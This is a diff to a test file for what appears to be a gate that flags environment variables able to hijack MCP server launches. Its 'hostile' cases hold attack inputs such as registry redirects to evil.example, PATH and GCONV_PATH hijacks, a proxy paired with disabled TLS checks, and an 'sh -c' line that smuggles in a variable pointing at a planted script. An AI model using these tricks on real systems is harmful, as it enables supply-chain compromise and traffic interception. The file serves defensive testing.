@@ -1,6 +1,6 @@
 /*
- * Variables, turned round: what a program of the launch reads counts unless it is known to be harmless,
- * and of all others what leads to more than data in the tree.
+ * Variables as the exception: one that a program of the launch reads counts unless it is known to be
+ * harmless. Any other counts if it leads to more than data in the tree.
  */
 import { describe } from 'vitest';
 import { type Case, type FileContent, type Files, good, mcp, playCases } from './cases.ts';
@@ -14,10 +14,10 @@ const pnpm = { command: 'pnpm', args: ['dlx', '@fictional-mcp/notes@1.4.0'] };
 const go = { command: 'go', args: ['run', 'example.com/fictional/notes@v1.0.0'] };
 const dnx = { command: 'dnx', args: ['Fictional.Notes@1.0.0', '--yes'] };
 
-/** What the gate says of an altered launch; from another registry its grade is lost, too. */
+/** The gate's verdict on an altered launch; if the registry changes, the grade is lost, too. */
 const altered = /^changed: altered-launch/;
 
-/** An environment that comes, in a tree with some files. */
+/** An environment that the change adds, in a tree with some files. */
 function comes(
   env: Environment,
   expected: string | RegExp,
@@ -37,7 +37,7 @@ const alters = (env: Environment, files: Files = {}, entry: object = good): Case
 const isQuiet = (env: Environment, files: Files = {}, entry: object = good): Case =>
   comes(env, 'unchanged', files, entry);
 
-/** An environment that stays while files change. */
+/** An environment that stays the same while files change. */
 function stays(env: Environment, base: Files, head: Head, expected: string | RegExp): Case {
   return {
     name: `${JSON.stringify(env)} while ${Object.keys(head)} changes`,
@@ -47,7 +47,7 @@ function stays(env: Environment, base: Files, head: Head, expected: string | Reg
   };
 }
 
-/** Words that take the place of those of the entry. */
+/** A command and arguments that replace those of the entry. */
 function starts(
   command: string,
   args: readonly string[],
@@ -62,7 +62,7 @@ function starts(
   };
 }
 
-/** The words of an entry. */
+/** Returns an entry's command and arguments as one list. */
 function line({ command, args }: typeof good): string[] {
   return [command, ...args];
 }
@@ -72,7 +72,7 @@ const folder: Files = { 'plugins/a/index.js': 'run()' };
 
 describe('hostile', () => {
   playCases([
-    // Open spaces: any name, in any spelling.
+    // Open variable spaces: any name counts, in any spelling.
     ...[
       'NPM_CONFIG_registry',
       'Npm_Config_Registry',
@@ -129,7 +129,7 @@ describe('hostile', () => {
       (name) => alters({ [name]: './p' }, {}, dnx),
     ),
     alters({ COREPACK_NPM_REGISTRY: './x' }, {}, pnpm),
-    // Values that look like harmless ones.
+    // Values that look harmless but are not.
     alters({ npm_config_registry: 'http://registry.npmjs.org/' }),
     alters({ npm_config_registry: 'https://registry.npmjs.org.evil.example/' }),
     alters({ npm_config_cache: '/proc/self/cwd/c' }),
@@ -165,7 +165,7 @@ describe('hostile', () => {
     alters({ PATH: '$PATH:./bin' }, { 'bin/npx': { executable: '' } }),
     alters({ PATH: '${env:PATH}:${workspaceFolder}/bin' }, { 'bin/npx': 'run' }),
     alters({ PATHEXT: '.JS;.COM;.EXE;.BAT;.CMD' }),
-    // Any other variable that leads to code of the tree.
+    // Any other variable that leads to code in the tree.
     ...[
       './evil.js',
       'evil.js',
@@ -211,10 +211,10 @@ describe('hostile', () => {
     alters({ LIB: './vendor/x' }, { 'vendor/x/a.so': 'ELF' }),
     alters({ LIB: './node_modules/x' }, { 'node_modules/x/index.js': '' }),
     alters({ GCONV_PATH: './gconv' }, { 'gconv/gconv-modules': '' }),
-    // A proxy beside what trusts its certificates.
+    // A proxy together with a variable that makes the program trust the proxy's certificates.
     alters({ HTTPS_PROXY: 'http://evil.example', NODE_TLS_REJECT_UNAUTHORIZED: '0' }),
     alters({ https_proxy: 'http://evil.example', npm_config_cafile: './ca.pem' }),
-    // What words set.
+    // Variables that the command line sets.
     starts('npx', ['--@fictional-mcp:registry=https://evil.example', ...good.args], altered),
     starts(
       'npx',
@@ -228,7 +228,7 @@ describe('hostile', () => {
       'bin/npx': 'run',
     }),
     starts('sh', ['-c', `D=.; P=$D/evil.js ${line(good).join(' ')}`], altered, code),
-    // Files of variables, beside an entry that has the same variable.
+    // Variable files beside an entry that sets the same variable.
     {
       name: 'the same variable in env and envFile',
       base: mcp(good),
@@ -238,7 +238,7 @@ describe('hostile', () => {
       },
       expected: altered,
     },
-    // What has a name in the tree counts with its content.
+    // A value that names a file in the tree counts with the file's content.
     stays({ MEMORY_FILE_PATH: 'm.json' }, { 'm.json': '[]' }, { 'm.json': '[1]' }, 'changed'),
     stays({ PLUGIN: './p.js' }, { 'p.js': '1' }, { 'p.js': '2' }, altered),
     stays({ PLUGIN: './p.js' }, {}, { 'p.js': '2' }, altered),
@@ -348,21 +348,21 @@ describe('honest', () => {
       {},
       go,
     ),
-    // What programs of other launches read.
+    // Variables that only programs in other launches read.
     isQuiet({ GOFLAGS: '-mod=mod', UV_INDEX: 'pypi.acme.example', DOTNET_X: '1' }),
     isQuiet({ GIT_SSH_COMMAND: 'ssh -i ~/.ssh/key', RUBYOPT: '-W0' }),
-    // Paths out of the tree, and to what is not there.
+    // Paths that lead out of the tree or to nothing.
     isQuiet({ CONFIG: '/etc/acme/evil.js', OUT: './out', STORE: '${userHome}/evil.js' }, code),
     isQuiet({ DB: 'sqlite:///var/lib/app.db', KEY: 'a/b/c', KUBECONFIG: '~/.kube/config' }, code),
     isQuiet({ INCLUDE: '**/*.js', IGNORE: 'node_modules,dist,*.log', KIND: '*types*' }, code),
     isQuiet({ TARGET: 'plugins', MODE: 'plugins' }, folder),
     starts('env', ['LOG_LEVEL=debug', 'NODE_ENV=production', ...line(good)], 'changed'),
-    // Data and the project itself do not alter; they count with name, value and content.
+    // Data and the project itself alter no launch; they count with their name, value and content.
     comes({ MEMORY_FILE_PATH: '.github/memory/memory.json' }, 'changed', {
       '.github/memory/memory.json': '[]',
     }),
     comes({ REPO_ROOT: '.' }, 'changed', code),
-    // So does an address, which may be that of any service.
+    // Nor does an address alter a launch, as it may be that of any service.
     comes({ API_BASE_URL: 'https://api.acme.example/v1/src' }, 'changed', {}),
     comes({ UV_INDEX_URL: 'https://pypi.acme.example' }, 'changed', {}),
     comes({ API_URL: 'https://acme.example/plugins/a/index.js' }, 'changed', folder),
